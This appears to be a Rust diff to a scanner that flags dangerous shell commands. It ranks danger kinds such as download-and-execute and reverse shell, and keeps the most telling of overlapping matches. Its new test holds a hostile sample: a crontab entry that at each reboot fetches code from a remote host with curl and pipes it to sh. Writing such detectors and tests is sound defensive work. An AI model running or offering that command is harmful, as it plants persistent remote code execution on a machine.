@@ -26,6 +26,19 @@ pub enum Danger {
 }
 
 impl Danger {
+    /// How much a find says about a command, most first: running fetched code or handing
+    /// over a shell says more than the `echo` or `rm` it was found beside.
+    fn rank(self) -> u8 {
+        match self {
+            Danger::DownloadExec => 0,
+            Danger::ReverseShell => 1,
+            Danger::Upload => 2,
+            Danger::EncodedExec => 3,
+            Danger::Destructive => 4,
+            Danger::Permissions => 5,
+        }
+    }
+
     pub fn describe(self) -> &'static str {
         match self {
             Danger::DownloadExec => "downloads code and runs it",
@@ -109,7 +122,22 @@ pub fn commands(text: &str) -> Vec<Command> {
         found
             .extend(pattern.find_iter(text).map(|m| Command { range: m.range(), danger: *danger }));
     }
+    // Where finds overlap, the one that says most about the command stands: `echo "... curl
+    // ... | sh" | crontab -` fetches code and runs it, whatever the echo is piped to.
     found.sort_by_key(|command| (command.range.start, std::cmp::Reverse(command.range.end)));
+    let mut preferred: Vec<Command> = Vec::with_capacity(found.len());
+    for command in found {
+        match preferred.last_mut() {
+            Some(last)
+                if command.range.start < last.range.end
+                    && command.danger.rank() < last.danger.rank() =>
+            {
+                *last = command;
+            }
+            _ => preferred.push(command),
+        }
+    }
+    let found = preferred;
     let mut kept: Vec<Command> = Vec::new();
     for command in found {
         if let Some(last) = kept.last_mut() {
@@ -174,6 +202,16 @@ mod tests {
 
     fn dangers(text: &str) -> Vec<Danger> {
         commands(text).into_iter().map(|command| command.danger).collect()
+    }
+
+    #[test]
+    fn the_most_telling_of_overlapping_finds_stands() {
+        let text =
+            r#"(crontab -l; echo "@reboot sh -c 'curl -s https://r.net/agent | sh'") | crontab -"#;
+        let found = commands(text);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].danger, Danger::DownloadExec);
+        assert_eq!(&text[found[0].range.clone()], "curl -s https://r.net/agent | sh");
     }
 
     #[test]
